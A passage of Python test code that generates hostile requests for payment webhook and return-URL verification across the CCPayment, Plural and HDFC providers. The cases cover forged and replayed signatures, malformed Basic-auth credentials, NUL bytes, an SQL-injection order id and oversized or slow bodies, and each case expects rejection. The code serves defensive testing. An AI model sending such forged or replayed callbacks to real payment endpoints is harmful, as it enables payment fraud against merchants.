            secret.encode(), account.app_id.encode() + stamp.encode() + self.body, "sha256"
        )
        unsalted = hashlib.sha256(secret.encode() + stamp.encode() + self.body).hexdigest()
        for name, sign in (("sign_as_hmac", mac.hexdigest()), ("sign_without_app_id", unsalted)):
            self.add(name, self.bad, replaced(signed, ccpayment.HEADER_SIGN, sign))

    def _plural(self) -> None:
        account = self.account
        assert isinstance(account, plural.PluralAccount)
        self._timestamps(
            lambda body, stamp: plural_headers(account, body, stamp),
            account.timestamp_tolerance_seconds,
        )
        primer_body = self.sim.callback_body("hostile-primer", now=self.now)
        primer = self.sim.sign_callback(account, primer_body, now=self.now)
        self.primer = (primer_body, primer)
        # A verified copy of the accepted primer: the ack (Plural wants 2xx for a duplicate)
        # and nothing published again; the test counts these apart.
        replayed = ACKED
        signature = primer[plural.HEADER_SIGNATURE]
        for name, headers in {
            "replay_1": primer,
            "replay_2": primer,
            "replay_with_extra_entry": primer | {plural.HEADER_SIGNATURE: signature + " v1,AAAA"},
            "replay_with_other_version_first": primer
            | {plural.HEADER_SIGNATURE: "v2,AAAA " + signature},
            "replay_with_charset": primer | {CONTENT_TYPE: "application/json; charset=utf-8"},
        }.items():
            self.add(name, replayed, headers, primer_body)
        self.add(
            "replay_to_unknown_account",
            Expect(404, "unknown_account"),
            primer,
            primer_body,
            target=callback_path("plural", "elsewhere"),
        )
        value = self.signed()[plural.HEADER_SIGNATURE]
        forged_entries = " ".join(
            "v1," + base64.b64encode(secrets.token_bytes(32)).decode() for _ in range(150)
        )
        for name, edited in {
            "signature_as_v2": value.replace("v1,", "v2,"),
            "signature_without_comma": value.replace("v1,", "v1 "),
            "signature_empty_v1": "v1,",
            "signature_150_forged_entries": forged_entries,
        }.items():
            self.add(name, self.bad, replaced(self.signed(), plural.HEADER_SIGNATURE, edited))
        raw_key = account.secrets[0].reveal().encode()
        self.add(
            "signed_with_raw_key_encoding",
            self.bad,
            plural_headers(account, self.body, str(self.now), key=raw_key),
        )
        moved = replaced(self.signed(), plural.HEADER_ID, "msg_" + secrets.token_urlsafe(18))
        self.add("webhook_id_changed_after_signing", self.bad, moved)

    def _hdfc(self) -> None:
        account = self.account
        assert isinstance(account, hdfc.HdfcAccount)
        username = account.webhook_username
        password = account.secrets[0].reveal()

        def basic(credentials: bytes) -> str:
            return "Basic " + base64.b64encode(credentials).decode()

        user, pw = username.encode(), password.encode()
        for name, value in {
            "bearer_scheme": "Bearer " + password,
            "digest_scheme": f'Digest username="{username}", response="{password}"',
            "basic_without_credentials": "Basic",
            "basic_not_base64": "Basic !!!!",
            "basic_with_space_inside": basic(user + b":" + pw)[:10]
            + " "
            + basic(user + b":" + pw)[10:],
            "credentials_without_colon": basic(user + pw),
            "right_user_wrong_password": basic(user + b":" + pw[::-1]),
            "wrong_user_right_password": basic(b"other_shop:" + pw),
            "empty_user_right_password": basic(b":" + pw),
            "password_with_newline": basic(user + b":" + pw + b"\n"),
            "password_prefix": basic(user + b":" + pw[:-1]),
            "upper_case_user": basic(user.upper() + b":" + pw),
            "nul_in_credentials": basic(user + b"\x00:" + pw),
        }.items():
            self.add(name, self.bad, replaced(self.signed(), self.auth, value))
        userinfo = f"http://{username}:{password}@127.0.0.1{self.path}"
        self.add(
            "credentials_in_url", MISSING, replaced(self.signed(), self.auth, None), target=userinfo
        )


# --- return URLs --------------------------------------------------------------------------------

RETURN_STATUSES = {"hdfc": ("CHARGED", "AUTHORIZATION_FAILED"), "plural": ("PROCESSED", "FAILED")}
FORM = "application/x-www-form-urlencoded"


def return_cases(provider: str, account: ProviderAccount, *, max_body: int) -> list[Case]:
    """Redirects that must not verify: each sends the customer to the failure page with
    ``status=unverified`` (``Expect(303, "unverified")``) and publishes nothing."""
    returns = SIMULATORS[provider].returns
    assert returns is not None
    guess = stranger(provider, account, "forged_return")
    path = f"/return/{provider}/{ACCOUNT}"
    paid, failed = RETURN_STATUSES[provider]
    forged = returns.signed_return(guess, order_id="hostile-order", status=paid, method="GET")
    genuine = returns.signed_return(account, order_id="hostile-order", status=failed, method="GET")
    sql = returns.signed_return(guess, order_id=REFS["sql"], status=paid, method="GET")
    # Genuine, but a NUL can never be stored: refused at the edge.
    nul = returns.signed_return(account, order_id="hostile\x00order", status=paid, method="GET")
    pairs = genuine.query.split("&")
    queries = {
        "forged_signature": forged.query,
        "status_changed_after_signing": genuine.query.replace(f"status={failed}", f"status={paid}"),
        "missing_signature": "&".join(p for p in pairs if not p.startswith("signature=")),
        "empty_signature": "&".join(
            "signature=" if p.startswith("signature=") else p for p in pairs
        ),
        "repeated_signature": genuine.query + "&signature=AAAA",
        "invalid_utf8_parameter": forged.query + "&note=%FF",
        "forged_sql_order_id": sql.query,
        "signed_nul_in_order_id": nul.query,
        "no_parameters": "",
    }
    unverified = Expect(303, "unverified")
    cases = [
        Case(
            provider=provider,
            name=f"return_{name}",
            route="return",
            head=wire(f"{path}?{query}", [], method="GET"),
            expect=unverified,
        )
        for name, query in queries.items()
    ]
    form = genuine.query.encode()
    huge = forged.query.encode() + b"&pad=" + b"x" * max_body
    posts: dict[str, tuple[list[tuple[Value, Value]], bytes, bool]] = {
        "forged_signature_post": ([(CONTENT_TYPE, FORM)], forged.query.encode(), False),
        "post_as_json": ([(CONTENT_TYPE, "application/json")], form, False),
        "post_without_content_type": ([], form, False),
        "post_huge_body": ([(CONTENT_TYPE, FORM)], huge, False),
        "post_slow_body": ([(CONTENT_TYPE, FORM)], form, True),
        "post_gzip_garbage": ([(CONTENT_TYPE, FORM), ("Content-Encoding", "gzip")], b"xx", False),
    }
    for name, (headers, body, trickle) in posts.items():
        head = wire(path, headers, body)
        cases.append(
            Case(
                provider=provider,
                name=f"return_{name}",
                route="return",
                head=head,
                body=body,
                trickle=trickle,
                expect=unverified,
            )
        )
    elsewhere = f"/return/{provider}/elsewhere?{genuine.query}"
    for name, head, expect in (
        ("unknown_account", wire(elsewhere, [], method="GET"), Expect(404, "unknown_account")),
        ("method_put", wire(f"{path}?{genuine.query}", [], method="PUT"), PROTOCOL),
    ):
        cases.append(
            Case(provider=provider, name=f"return_{name}", route="return", head=head, expect=expect)
        )
    return cases
